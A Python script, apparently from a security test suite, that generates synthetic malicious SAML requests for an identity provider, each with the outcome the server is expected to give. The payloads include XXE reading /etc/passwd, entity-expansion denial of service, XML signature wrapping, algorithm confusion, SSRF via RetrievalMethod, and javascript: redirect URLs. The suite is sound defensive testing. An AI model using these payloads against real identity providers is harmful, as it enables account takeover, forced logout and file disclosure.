#!/usr/bin/env python3
"""Makes the hostile messages of this folder anew: every message, key and name is synthetic.

  make.py [--now 2026-11-22T00:00:00Z]

Needs lxml and cryptography, which no test does: they read what lies here. The keys are made anew
each time and forgotten; of them only the party's certificate stays (saml2/sp.der). Signed messages
carry --now as IssueInstant and are addressed to the domain contoso-com of https://idp.gatehouse.test.
The large ones (X01 to X11) are made by the tests that send them.
"""
import argparse, base64, copy, datetime as dt, hashlib, hmac, json, os, urllib.parse, zlib
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa, padding
from cryptography.x509.oid import NameOID
from lxml import etree as E

P = "urn:oasis:names:tc:SAML:2.0:protocol"
A = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENV = DS + "enveloped-signature"
RSA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA1 = DS + "rsa-sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = DS + "sha1"
NS = {"samlp": P, "saml": A, "ds": DS}

IDP = "https://idp.gatehouse.test"
SSO = IDP + "/d/contoso-com/adfs/ls/"
SLO = IDP + "/d/contoso-com/saml/slo"
SP = "urn:federation:MicrosoftOnline"
ACS = "https://login.microsoftonline.com/login.srf"
EVIL = "https://evil.example/acs"
VICTIM = "dmljdGltLWltbXV0YWJsZQ=="      # immutable id of the user whose session must not be touched
OWN = "b3duLWltbXV0YWJsZS1pZA=="          # immutable id of the user in whose name the SP legitimately asked

ap = argparse.ArgumentParser()
ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)))
ap.add_argument("--now", default="2026-11-22T00:00:00Z")
args = ap.parse_args()
NOW = dt.datetime.strptime(args.now, "%Y-%m-%dT%H:%M:%SZ")
fmt = lambda t: t.strftime("%Y-%m-%dT%H:%M:%SZ")
OUT = args.out
for d in ("saml2/post", "saml2/redirect", "saml2/metadata", "wstrust"):
    os.makedirs(os.path.join(OUT, d), exist_ok=True)

# ---------------------------------------------------------------- keys
def keypair(cn):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    n = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    crt = (x509.CertificateBuilder().subject_name(n).issuer_name(n).public_key(key.public_key())
           .serial_number(1000 + len(cn)).not_valid_before(dt.datetime(2020, 1, 1)).not_valid_after(dt.datetime(2049, 12, 31))
           .sign(key, hashes.SHA256()))
    return key, crt
SPK, SPC = keypair("TEST ONLY legitimate service provider")
EVK, EVC = keypair("TEST ONLY attacker")
open(os.path.join(OUT, "saml2/sp.der"), "wb").write(SPC.public_bytes(serialization.Encoding.DER))
der64 = lambda c: base64.b64encode(c.public_bytes(serialization.Encoding.DER)).decode()

# ---------------------------------------------------------------- builders
def authn(id_="_r1", acs=None, dest=SSO, issuer=SP, when=None, extra=None, version="2.0", nid=True):
    r = E.Element(f"{{{P}}}AuthnRequest", nsmap={"samlp": P, "saml": A})
    if id_ is not None: r.set("ID", id_)
    r.set("Version", version); r.set("IssueInstant", fmt(when or NOW))
    if dest: r.set("Destination", dest)
    if acs: r.set("AssertionConsumerServiceURL", acs)
    for k, v in (extra or {}).items(): r.set(k, v)
    i = E.SubElement(r, f"{{{A}}}Issuer"); i.text = issuer
    if nid: E.SubElement(r, f"{{{P}}}NameIDPolicy").set("Format", "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent")
    return r

def logout(id_="_l1", nameid=OWN, dest=SLO, when=None, nooa=None, session="_s1"):
    r = E.Element(f"{{{P}}}LogoutRequest", nsmap={"samlp": P, "saml": A})
    r.set("ID", id_); r.set("Version", "2.0"); r.set("IssueInstant", fmt(when or NOW)); r.set("Destination", dest)
    r.set("NotOnOrAfter", fmt(nooa or NOW + dt.timedelta(minutes=5)))
    E.SubElement(r, f"{{{A}}}Issuer").text = SP
    n = E.SubElement(r, f"{{{A}}}NameID"); n.set("Format", "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"); n.text = nameid
    if session: E.SubElement(r, f"{{{P}}}SessionIndex").text = session
    return r

def c14n(el): return E.tostring(el, method="c14n", exclusive=True, with_comments=False)

def digest(el, alg):
    e = copy.deepcopy(el)
    for s in e.findall(f"{{{DS}}}Signature"): e.remove(s)
    return base64.b64encode(hashlib.new("sha1" if alg == SHA1 else "sha256", c14n(e)).digest()).decode()

def sign(root, key=SPK, crt=SPC, sigalg=RSA256, digalg=SHA256, uri=None, target=None, refs=None, keyinfo=True, transforms=None,
         place=1, mutate_si=None):
    """Adds an enveloped ds:Signature to root. refs: explicit list of (uri, digestvalue, [transform-algs])."""
    target = root if target is None else target
    uri = "#" + root.get("ID") if uri is None else uri
    sig = E.Element(f"{{{DS}}}Signature", nsmap={"ds": DS})
    si = E.SubElement(sig, f"{{{DS}}}SignedInfo")
    E.SubElement(si, f"{{{DS}}}CanonicalizationMethod").set("Algorithm", EXC)
    E.SubElement(si, f"{{{DS}}}SignatureMethod").set("Algorithm", sigalg)
    for u, dv, trs in (refs if refs is not None else [(uri, digest(target, digalg), transforms or [ENV, EXC])]):
        r = E.SubElement(si, f"{{{DS}}}Reference"); r.set("URI", u)
        t = E.SubElement(r, f"{{{DS}}}Transforms")
        for x in trs:
            te = E.SubElement(t, f"{{{DS}}}Transform")
            if isinstance(x, tuple): te.set("Algorithm", x[0]); te.append(E.fromstring(x[1]))
            else: te.set("Algorithm", x)
        E.SubElement(r, f"{{{DS}}}DigestMethod").set("Algorithm", digalg)
        E.SubElement(r, f"{{{DS}}}DigestValue").text = dv
    if mutate_si is not None: mutate_si(si)
    root.insert(place, sig)                       # c14n in final position (namespaces in scope)
    data = c14n(si)
    if "hmac" in sigalg:
        secret = crt.public_bytes(serialization.Encoding.PEM)
        val = hmac.new(secret, data, "sha1" if sigalg.endswith("sha1") else "sha256").digest()
    elif key is None: val = b"\0" * 256
    else: val = key.sign(data, padding.PKCS1v15(), hashes.SHA1() if sigalg == RSA1 else hashes.SHA256())
    E.SubElement(sig, f"{{{DS}}}SignatureValue").text = base64.b64encode(val).decode()
    if keyinfo:
        ki = E.SubElement(sig, f"{{{DS}}}KeyInfo"); xd = E.SubElement(ki, f"{{{DS}}}X509Data")
        E.SubElement(xd, f"{{{DS}}}X509Certificate").text = der64(crt)
    return root

ser = lambda r: E.tostring(r, encoding="UTF-8")
MAN = []
def v(id_, file, cls, binding, title, expect, data=None, **kw):
    """expect: reject | accept | neutralise"""
    if data is not None:
        with open(os.path.join(OUT, file), "wb") as f: f.write(data if isinstance(data, bytes) else data.encode())
    MAN.append(dict(id=id_, file=file, cls=cls, binding=binding, title=title, expect=expect, **kw))
REJ = dict(http=[400], no_session=True, no_assertion=True, no_outbound=True, max_ms=250, max_rss_mib=16)

def post(id_, name, cls, title, expect, data, **kw):
    v(id_, f"saml2/post/{id_}-{name}.xml", cls, "saml-post", title, expect, data, **({**REJ, **kw} if expect == "reject" else kw))

# ================================================================ A. DTD / entities
H = f'xmlns:samlp="{P}" xmlns:saml="{A}" ID="_r1" Version="2.0" IssueInstant="{fmt(NOW)}"'
doc = lambda dtd, issuer=SP, attrs="", pre='<?xml version="1.0"?>\n', tail="": f'{pre}{dtd}<samlp:AuthnRequest {H}{attrs}><saml:Issuer>{issuer}</saml:Issuer></samlp:AuthnRequest>{tail}'
post("A01", "dtd-empty", "dtd", "DOCTYPE without declarations: any DOCTYPE at all is refused", "reject", doc("<!DOCTYPE samlp:AuthnRequest>\n"))
post("A02", "entity-in-issuer", "dtd", "internal entity expands to the trusted issuer", "reject", doc(f'<!DOCTYPE x [<!ENTITY i "{SP}">]>\n', "&i;"))
lol = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i-1)) * 10}">' for i in range(1, 10))
post("A03", "billion-laughs", "dtd-dos", "10^9 entity expansion", "reject", doc(f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>\n', "&l9;"))
post("A04", "xxe-file", "xxe", "external general entity file:///etc/passwd", "reject", doc('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n', "&e;"), must_not_contain=["root:"])
post("A05", "xxe-http", "xxe", "external entity to a loopback canary; harness listens on 127.0.0.1:18080 and must see 0 connections", "reject", doc('<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:18080/xxe">]>\n', "&e;"), canary="127.0.0.1:18080")
post("A06", "external-dtd", "xxe", "external DTD subset only", "reject", doc('<!DOCTYPE x SYSTEM "http://127.0.0.1:18080/x.dtd">\n'), canary="127.0.0.1:18080")
post("A07", "param-entity-oob", "xxe", "parameter entity out-of-band exfiltration", "reject", doc('<!DOCTYPE x [<!ENTITY % r SYSTEM "http://127.0.0.1:18080/r.dtd"> %r;]>\n'), canary="127.0.0.1:18080")
post("A08", "attlist-default-acs", "dtd", "DTD attribute default injects an AssertionConsumerServiceURL invisible in the text", "reject", doc(f'<!DOCTYPE samlp:AuthnRequest [<!ATTLIST samlp:AuthnRequest AssertionConsumerServiceURL CDATA "{EVIL}">]>\n'))
post("A09", "dtd-id-attribute", "dtd", "DTD redeclares which attribute is an ID (prepares signature wrapping)", "reject", doc('<!DOCTYPE samlp:AuthnRequest [<!ATTLIST saml:Issuer foo ID #IMPLIED>]>\n'))
post("A10", "utf16-doctype", "dtd", "UTF-16 document with DOCTYPE: byte filter for '<!DOCTYPE' must not be the only defence", "reject", doc('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n', "&e;", pre='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16"))
post("A11", "utf7-declared", "encoding", "declared encoding UTF-7", "reject", doc("", pre='<?xml version="1.0" encoding="UTF-7"?>\n'))
post("A12", "xinclude", "xxe", "XInclude of a local file", "reject", f'<samlp:AuthnRequest {H}><saml:Issuer>{SP}</saml:Issuer><samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></samlp:Extensions></samlp:AuthnRequest>', note="acceptable alternative: neutralise (Extensions ignored, nothing read)", alt_expect="neutralise", must_not_contain=["root:"])
post("A13", "xml-stylesheet", "xxe", "xml-stylesheet processing instruction", "reject", f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:18080/x.xsl"?><samlp:AuthnRequest {H}><saml:Issuer>{SP}</saml:Issuer></samlp:AuthnRequest>', canary="127.0.0.1:18080")
quad = "A" * 20000
post("A14", "quadratic-blowup", "dtd-dos", "one 20 kB entity referenced 1,000 times (20 MB)", "reject", doc(f'<!DOCTYPE x [<!ENTITY a "{quad}">]>\n', "&a;" * 1000))
post("A15", "entity-in-destination", "dtd", "undefined entity", "reject", doc("", "&nosuch;"))

# ================================================================ C. encoding / well-formedness
good = ser(authn())
raw = lambda id_, name, title, param, **kw: v(id_, f"saml2/post/{id_}-{name}.txt", "encoding", "saml-post-raw", title, "reject", param, **{**REJ, **kw})
b64 = base64.b64encode(good)
raw("C01", "invalid-base64", "not base64", b"@@@@" + b64)
raw("C02", "base64-bad-padding", "one padding character missing/extra", b64.rstrip(b"=") + b"=====")
raw("C03", "base64-inner-nul", "NUL inside base64", b64[:20] + b"\0" + b64[20:])
raw("C04", "empty", "empty SAMLRequest", b"")
raw("C05", "zlib-header-in-post", "POST binding carrying a deflated body (binding confusion)", base64.b64encode(zlib.compress(good)))
post("C06", "invalid-utf8-ff", "encoding", "0xFF byte in text", "reject", good.replace(b"MicrosoftOnline", b"Microsoft\xffOnline"))
post("C07", "overlong-utf8", "encoding", "overlong encoding of '<' (C0 BC)", "reject", good.replace(b"MicrosoftOnline", b"Microsoft\xc0\xbcOnline"))
post("C08", "utf8-surrogate", "encoding", "UTF-8 encoded surrogate ED A0 80", "reject", good.replace(b"MicrosoftOnline", b"Microsoft\xed\xa0\x80Online"))
post("C09", "nul-byte", "encoding", "NUL in text", "reject", good.replace(b"MicrosoftOnline", b"Microsoft\x00Online"))
post("C10", "charref-nul", "encoding", "&#0; character reference", "reject", doc("", "urn:federation:Microsoft&#0;Online"))
post("C11", "charref-surrogate", "encoding", "&#xD800; character reference", "reject", doc("", "urn:federation:Microsoft&#xD800;Online"))
post("C12", "two-roots", "wellformed", "second root element after the first", "reject", good + ser(authn("_r2", acs=EVIL)))
post("C13", "trailing-text", "wellformed", "text after the root element", "reject", good + b"garbage")
post("C14", "leading-text", "wellformed", "text before the root element", "reject", b"garbage" + good)
post("C15", "duplicate-attribute", "wellformed", "the same attribute twice", "reject", good.replace(b' Version="2.0"', b' Version="2.0" ID="_evil"'))
post("C16", "unclosed", "wellformed", "missing end tag (recovering parser would repair it)", "reject", good.replace(b"</samlp:AuthnRequest>", b""))
post("C17", "undeclared-prefix", "wellformed", "undeclared namespace prefix", "reject", good.replace(b"<saml:Issuer>", b"<zz:Issuer>").replace(b"</saml:Issuer>", b"</zz:Issuer>"))
post("C18", "not-xml", "wellformed", "JSON instead of XML", "reject", b'{"AuthnRequest":{}}')
post("C19", "html-wrapper", "wellformed", "AuthnRequest inside an html element", "reject", b"<html>" + good + b"</html>")
post("C20", "cdata-issuer", "wellformed", "CDATA in Issuer is legal XML with the same value; both parsers must agree", "accept", doc("", f"<![CDATA[{SP}]]>"), note="or reject; must never yield a different issuer", alt_expect="reject")
post("C21", "xml11", "wellformed", "XML 1.1 declaration", "reject", doc("", pre='<?xml version="1.1"?>\n'))

# ================================================================ D. signed AuthnRequest (SP configured: require_signed=true, cert = keys/sp.crt.pem)
S = dict(setup="require_signed")
post("D00", "control-signed", "control", "correctly signed request, no ACS in the message", "accept", ser(sign(authn("_d00"))), **S)
post("D00b", "control-signed-no-keyinfo", "control", "correctly signed, without KeyInfo", "accept", ser(sign(authn("_d00b"), keyinfo=False)), **S)
post("D01", "unsigned", "sig-missing", "no signature although required", "reject", ser(authn("_d01")), **S)
def emptysig():
    r = authn("_d02"); r.insert(1, E.Element(f"{{{DS}}}Signature", nsmap={"ds": DS})); return ser(r)
post("D02", "empty-signature", "sig-missing", "empty ds:Signature element", "reject", emptysig(), **S)
post("D03", "attacker-key-in-keyinfo", "sig-key", "valid signature by the attacker's own certificate carried in KeyInfo (class of CVE-2026-9090)", "reject", ser(sign(authn("_d03", acs=EVIL), EVK, EVC)), **S)
def tamper(r, f): f(r); return ser(r)
post("D04", "tampered-acs", "sig-digest", "ACS added after signing", "reject", tamper(sign(authn("_d04")), lambda r: r.set("AssertionConsumerServiceURL", EVIL)), **S)
def t5(r):
    dv = r.find(f".//{{{DS}}}DigestValue"); r.set("AssertionConsumerServiceURL", EVIL); dv.text = digest(r, SHA256)
post("D05", "tampered-digest", "sig-value", "content and DigestValue changed, SignatureValue old", "reject", tamper(sign(authn("_d05")), t5), **S)

# --- signature wrapping. orig = validly signed original, evil = what the application would read
def xsw(kind, id_o="_orig", id_e="_evil"):
    o = sign(authn(id_o)); evil = authn(id_e, acs=EVIL)
    if kind == 1:    # evil root; the complete signed original (with its signature) inside samlp:Extensions
        x = E.SubElement(evil, f"{{{P}}}Extensions"); evil.remove(x); evil.insert(1, x); x.append(o); return ser(evil)
    if kind == 2:    # evil root carries the original's Signature as direct child; original (without signature) in ds:Object
        sig = o.find(f"{{{DS}}}Signature"); o.remove(sig)
        evil.insert(1, sig); ob = E.SubElement(sig, f"{{{DS}}}Object"); ob.append(o); return ser(evil)
    if kind == 3:    # like 2, original in Extensions after the signature
        sig = o.find(f"{{{DS}}}Signature"); o.remove(sig)
        evil.insert(1, sig); x = E.Element(f"{{{P}}}Extensions"); evil.insert(2, x); x.append(o); return ser(evil)
    if kind == 4:    # original before the evil issuer: first-child lookups differ from last-child lookups
        o2 = copy.deepcopy(o); evil.insert(0, o2); return ser(evil)
    if kind == 5:    # original appended as last child
        evil.append(o); return ser(evil)
    if kind == 6:    # wrapper root of another name that holds both
        w = E.Element(f"{{{P}}}Batch", nsmap={"samlp": P}); w.append(o); w.append(evil); return ser(w)
    if kind == 7:    # duplicate IDs: evil root has the same ID as the nested original
        evil.set("ID", id_o); x = E.Element(f"{{{P}}}Extensions"); evil.insert(1, x); x.append(o); return ser(evil)
    if kind == 8:    # duplicate IDs, signature moved up to the evil root
        evil.set("ID", id_o); sig = o.find(f"{{{DS}}}Signature"); o.remove(sig)
        evil.insert(1, sig); ob = E.SubElement(sig, f"{{{DS}}}Object"); ob.append(o); return ser(evil)
for k in range(1, 9):
    post(f"D1{k}", f"xsw{k}", "xsw", f"signature wrapping variant {k} on AuthnRequest", "reject", xsw(k), evil_acs=EVIL, **S)

r = authn("_d20"); sign(r, refs=[("", "AAAA", [ENV, EXC])])
post("D20", "uri-empty-bad-digest", "sig-ref", "Reference URI='' with wrong digest", "reject", ser(r), **S)
r = authn("_d21"); iss = r.find(f"{{{A}}}Issuer"); iss.set("ID", "_iss")
sign(r, uri="#_iss", target=iss, transforms=[EXC]); r.set("AssertionConsumerServiceURL", EVIL)
post("D21", "signs-only-issuer", "sig-ref", "the signature is valid but covers only the Issuer element", "reject", ser(r), **S)
r = authn("_d22"); sign(r, refs=[])
post("D22", "no-reference", "sig-ref", "SignedInfo with zero References", "reject", ser(r), **S)
r = authn("_d23"); good_dv = digest(r, SHA256); sign(r, refs=[("#_d23", good_dv, [ENV, EXC]), ("#_d23", "AAAA", [ENV, EXC])])
post("D23", "two-references-second-bad", "sig-ref", "two References, the second with a wrong digest (class of CVE-2026-33487)", "reject", ser(r), **S)
r = authn("_d24"); dv = digest(r, SHA256); sign(r, refs=[("#_d24", dv, [ENV, EXC])] * 2)
post("D24", "two-references-both-good", "sig-ref", "more than one Reference is outside the profile even if valid", "reject", ser(r), **S)
r = authn("_d25"); sign(r, refs=[("#_d25", "AAAA", [ENV, ("http://www.w3.org/TR/1999/REC-xpath-19991116", f'<XPath xmlns="{DS}">false()</XPath>'), EXC])])
post("D25", "xpath-transform", "sig-transform", "XPath transform that empties the signed content", "reject", ser(r), **S)
XSL = f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><a/></xsl:template></xsl:stylesheet>'
r = authn("_d26"); sign(r, refs=[("#_d26", "AAAA", [ENV, ("http://www.w3.org/TR/1999/REC-xslt-19991116", XSL), EXC])])
post("D26", "xslt-transform", "sig-transform", "XSLT transform", "reject", ser(r), **S)
r = authn("_d27"); sign(r, sigalg=DS + "hmac-sha1")
post("D27", "hmac-with-public-cert", "sig-alg", "HMAC-SHA1 keyed with the SP's public certificate PEM (key confusion)", "reject", ser(r), **S)
r = authn("_d28"); sign(r, sigalg="http://www.w3.org/2001/04/xmldsig-more#rsa-md5")
post("D28", "rsa-md5", "sig-alg", "rsa-md5 algorithm identifier", "reject", ser(r), **S)
r = authn("_d29"); sign(r, sigalg="http://www.w3.org/2000/09/xmldsig#none", key=None)
post("D29", "alg-none", "sig-alg", "unknown/none algorithm", "reject", ser(r), **S)
r = authn("_d30"); sign(r, sigalg=RSA1, digalg=SHA1)
post("D30", "rsa-sha1", "sig-alg", "validly signed with rsa-sha1/sha1: refused unless the SP has allow_sha1_requests=true (Microsoft's own sample of a signed request uses it)", "reject", ser(r), **{**S, "alt_setup": "require_signed+allow_sha1 -> accept"})
r = sign(authn("_d31")); dv = r.find(f".//{{{DS}}}DigestValue"); t = dv.text; r.set("AssertionConsumerServiceURL", EVIL); dv.text = digest(r, SHA256); dv.append(E.Comment(t))
post("D31", "comment-in-digestvalue", "sig-parse", "comment inside DigestValue (class of CVE-2025-29775)", "reject", ser(r), **S)
r = sign(authn("_d32")); sig = r.find(f"{{{DS}}}Signature"); si = sig.find(f"{{{DS}}}SignedInfo"); si2 = copy.deepcopy(si); r.set("AssertionConsumerServiceURL", EVIL)
si2.find(f".//{{{DS}}}DigestValue").text = digest(r, SHA256); sig.insert(0, si2)
post("D32", "two-signedinfo", "sig-parse", "two SignedInfo elements (class of CVE-2025-29774)", "reject", ser(r), **S)
r = sign(authn("_d33"), keyinfo=False); ki = E.SubElement(r.find(f"{{{DS}}}Signature"), f"{{{DS}}}KeyInfo"); rm = E.SubElement(ki, f"{{{DS}}}RetrievalMethod"); rm.set("URI", "http://127.0.0.1:18080/key"); rm.set("Type", DS + "X509Data")
post("D33", "retrievalmethod-ssrf", "ssrf", "KeyInfo/RetrievalMethod pointing at a URL: valid signature, but nothing may be fetched", "reject", ser(r), canary="127.0.0.1:18080", alt_expect="accept", note="accept is fine if KeyInfo is ignored; a fetch is not", **S)
r = authn("_d34"); sign(r, refs=[("http://127.0.0.1:18080/ref", "AAAA", [EXC])])
post("D34", "external-reference-uri", "ssrf", "Reference URI to an external resource", "reject", ser(r), canary="127.0.0.1:18080", **S)
r = authn("_d35"); sign(r, refs=[("#xpointer(id('_d35'))", digest(r, SHA256), [ENV, EXC])])
post("D35", "xpointer-uri", "sig-ref", "XPointer reference", "reject", ser(r), **S)
r = sign(authn("_d36"), place=1); s2 = copy.deepcopy(r.find(f"{{{DS}}}Signature")); r.append(s2)
post("D36", "two-signatures", "sig-parse", "two Signature elements", "reject", ser(r), **S)
r = sign(authn("_d37")); i = r.find(f"{{{A}}}Issuer"); i.text = "urn:federation:"; c = E.Comment("x"); c.tail = "MicrosoftOnline"; i.append(c)
post("D37", "comment-in-issuer-signed", "comment", "comment inside Issuer: the signature stays valid under c14n without comments; the value read must be the whole text or the message refused", "reject", ser(r), alt_expect="accept", must_read={"issuer": SP}, **S)
r = authn("_d38"); r.insert(1, sign(authn("_inner"))); r.set("AssertionConsumerServiceURL", EVIL)
post("D38", "nested-authnrequest", "xsw", "AuthnRequest directly inside AuthnRequest", "reject", ser(r), evil_acs=EVIL, **S)
def many_tr(si):
    t = si.find(f".//{{{DS}}}Transforms")
    for _ in range(300): E.SubElement(t, f"{{{DS}}}Transform").set("Algorithm", EXC)
r = authn("_d39"); sign(r, mutate_si=many_tr)
post("D39", "300-transforms", "sig-dos", "300 canonicalisation transforms", "reject", ser(r), **S)

# ================================================================ E. semantics (setup default: unsigned allowed, one SP registered)
post("E00", "control-microsoft-shape", "control", "minimal request in the shape Microsoft sends: no Destination, no ACS, default-namespace Issuer", "accept",
     f'<samlp:AuthnRequest ID="_e00" Version="2.0" IssueInstant="{fmt(NOW)}" xmlns:samlp="{P}"><Issuer xmlns="{A}">{SP}</Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"/></samlp:AuthnRequest>')
post("E01", "wrong-destination", "semantics", "Destination of another IdP", "reject", ser(authn("_e01", dest="https://other-idp.example/saml2/sso")))
post("E02", "stale", "semantics", "IssueInstant in 2001", "reject", ser(authn("_e02", when=dt.datetime(2001, 9, 9))))
post("E03", "future", "semantics", "IssueInstant one day ahead", "reject", ser(authn("_e03", when=NOW + dt.timedelta(days=1))))
post("E04", "acs-unregistered", "acs", "ACS URL that is not registered", "reject", ser(authn("_e04", acs=EVIL)), evil_acs=EVIL)
post("E05", "acs-javascript", "acs", "javascript: ACS (classes of CVE-2023-45683, CVE-2026-29191)", "reject", ser(authn("_e05", acs="javascript:alert(document.domain)//https://login.microsoftonline.com/login.srf")))
post("E06", "acs-userinfo", "acs", "userinfo trick", "reject", ser(authn("_e06", acs="https://login.microsoftonline.com@evil.example/login.srf")))
post("E07", "acs-suffix", "acs", "registered host as prefix of an evil host", "reject", ser(authn("_e07", acs="https://login.microsoftonline.com.evil.example/login.srf")))
post("E08", "acs-extra-query", "acs", "registered ACS plus attacker query (class of CVE-2026-18217)", "reject", ser(authn("_e08", acs=ACS + "?SAMLResponse=evil")))
post("E09", "acs-case-and-dotdot", "acs", "path traversal in ACS", "reject", ser(authn("_e09", acs="https://login.microsoftonline.com/x/../login.srf")))
post("E10", "acs-http", "acs", "http instead of https", "reject", ser(authn("_e10", acs="http://login.microsoftonline.com/login.srf")))
post("E11", "acs-index-unknown", "acs", "AssertionConsumerServiceIndex=77", "reject", ser(authn("_e11", extra={"AssertionConsumerServiceIndex": "77"})))
post("E12", "issuer-unknown", "issuer", "unknown SP", "reject", ser(authn("_e12", issuer="urn:unknown:sp")))
post("E13", "issuer-case", "issuer", "issuer differing in case", "reject", ser(authn("_e13", issuer="URN:federation:microsoftonline")))
post("E14", "issuer-homoglyph", "issuer", "Cyrillic letter in issuer", "reject", ser(authn("_e14", issuer="urn:federation:Micr\u043esoftOnline")))
post("E15", "issuer-comment", "comment", "comment splits the issuer text", "reject", doc("", "urn:federation:<!--x-->MicrosoftOnline"), alt_expect="accept", must_read={"issuer": SP})
post("E16", "issuer-missing", "issuer", "no Issuer", "reject", ser(authn("_e16")).replace(f"<saml:Issuer>{SP}</saml:Issuer>".encode(), b""))
post("E17", "two-issuers", "issuer", "two Issuer elements", "reject", ser(authn("_e17")).replace(b"<saml:Issuer>", f"<saml:Issuer>{SP}</saml:Issuer><saml:Issuer>x".encode(), 1))
post("E18", "version-11", "semantics", "Version=1.1", "reject", ser(authn("_e18", version="1.1")))
post("E19", "id-missing", "semantics", "no ID", "reject", ser(authn(None)))
post("E20", "id-xml-injection", "injection", "ID that would break out of InResponseTo if the response were built by string templating (IdP-side SAML XML injection)", "reject",
     ser(authn('_x" Destination="https://evil.example" y="')), alt_expect="accept", note="if accepted the issued Response must be well-formed with exactly this InResponseTo value; NCName check makes reject the right answer")
post("E21", "id-not-ncname", "semantics", "ID starting with a digit and holding spaces", "reject", ser(authn("1 <b>")))
post("E22", "id-64k", "dos", "64 kB ID", "reject", ser(authn("_" + "a" * 65536)))
post("E23", "wrong-ns-root", "namespace", "AuthnRequest in a foreign namespace", "reject", ser(authn("_e23")).replace(P.encode(), b"urn:evil:protocol"))
post("E24", "wrong-ns-issuer-first", "namespace", "foreign-namespace Issuer before the real one", "reject", ser(authn("_e24", issuer="urn:unknown:sp")).replace(b"<saml:Issuer>", f'<x:Issuer xmlns:x="urn:evil">{SP}</x:Issuer><saml:Issuer>'.encode(), 1))
post("E25", "response-instead", "semantics", "a samlp:Response sent as SAMLRequest", "reject", f'<samlp:Response {H}><saml:Issuer>{SP}</saml:Issuer></samlp:Response>')
post("E26", "logout-at-sso", "semantics", "LogoutRequest at the SSO endpoint", "reject", ser(logout("_e26")))
post("E27", "protocolbinding-artifact", "semantics", "ProtocolBinding HTTP-Artifact", "reject", ser(authn("_e27", extra={"ProtocolBinding": "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"})), note="a SAML error Response to the registered ACS (UnsupportedBinding) is also correct", alt_expect="saml-error")
post("E28", "subject-comment-nameid", "comment", "Subject NameID victim@contoso.com<!---->.evil.example: a hint must never be truncated", "neutralise", f'<samlp:AuthnRequest {H}><saml:Issuer>{SP}</saml:Issuer><saml:Subject><saml:NameID>victim@contoso.com<!---->.evil.example</saml:NameID></saml:Subject></samlp:AuthnRequest>', must_read={"login_hint": ["", "victim@contoso.com.evil.example"]})
post("E29", "providername-xss", "xss", "ProviderName with markup must not be rendered raw", "neutralise", ser(authn("_e29", extra={"ProviderName": "<script>alert(1)</script>"})), must_not_contain=["<script>alert(1)"])
post("E30", "passive-no-session", "semantics", "IsPassive=true without session: SAML error Responder/NoPassive to the registered ACS, no login page", "saml-error", ser(authn("_e30", extra={"IsPassive": "true"})))
post("E31", "forceauthn", "semantics", "ForceAuthn=true with a live session: full re-authentication, AuthnInstant is new", "neutralise", ser(authn("_e31", extra={"ForceAuthn": "true"})))
post("E32", "soap-wrapped", "semantics", "AuthnRequest in a SOAP envelope", "reject", b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>' + ser(authn("_e32")) + b"</s:Body></s:Envelope>")
post("E33", "xsi-type", "namespace", "xsi:type attribute on the root (type substitution)", "reject", ser(authn("_e33", extra={"{http://www.w3.org/2001/XMLSchema-instance}type": "samlp:LogoutRequestType"})), alt_expect="accept", note="accept only if ignored")
post("E34", "unknown-authncontext", "semantics", "RequestedAuthnContext that cannot be met (smartcard, exact): NoAuthnContext, never a false claim", "saml-error", f'<samlp:AuthnRequest {H}><saml:Issuer>{SP}</saml:Issuer><samlp:RequestedAuthnContext Comparison="exact"><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:SmartcardPKI</saml:AuthnContextClassRef></samlp:RequestedAuthnContext></samlp:AuthnRequest>')

# ================================================================ L. LogoutRequest (endpoint slo, session of OWN and of VICTIM exist)
def slo(id_, name, cls, title, expect, data, **kw):
    v(id_, f"saml2/post/{id_}-{name}.xml", cls, "saml-slo-post", title, expect, data, **{**(REJ if expect == "reject" else {}), "setup": "require_signed", **kw})
slo("L00", "control-signed", "control", "valid signed LogoutRequest of OWN", "accept", ser(sign(logout("_l00"))))
slo("L01", "unsigned", "sig-missing", "unsigned LogoutRequest naming the victim (class of GHSA-pcgw-qcv5-h8ch)", "reject", ser(logout("_l01", VICTIM)), victim_session_survives=True)
slo("L02", "attacker-key", "sig-key", "signed by the attacker's key", "reject", ser(sign(logout("_l02", VICTIM), EVK, EVC)), victim_session_survives=True)
def lxsw(kind):
    o = sign(logout("_lo")); evil = logout("_le", VICTIM)
    if kind == 1: x = E.Element(f"{{{P}}}Extensions"); evil.insert(1, x); x.append(o)
    if kind == 2:
        sig = o.find(f"{{{DS}}}Signature"); o.remove(sig); evil.insert(1, sig); E.SubElement(sig, f"{{{DS}}}Object").append(o)
    if kind == 3: evil.append(o)
    if kind == 4: evil.set("ID", "_lo"); x = E.Element(f"{{{P}}}Extensions"); evil.insert(1, x); x.append(o)
    return ser(evil)
for k in range(1, 5):
    slo(f"L1{k}", f"xsw{k}", "xsw", f"signature wrapping variant {k} on LogoutRequest", "reject", lxsw(k), victim_session_survives=True)
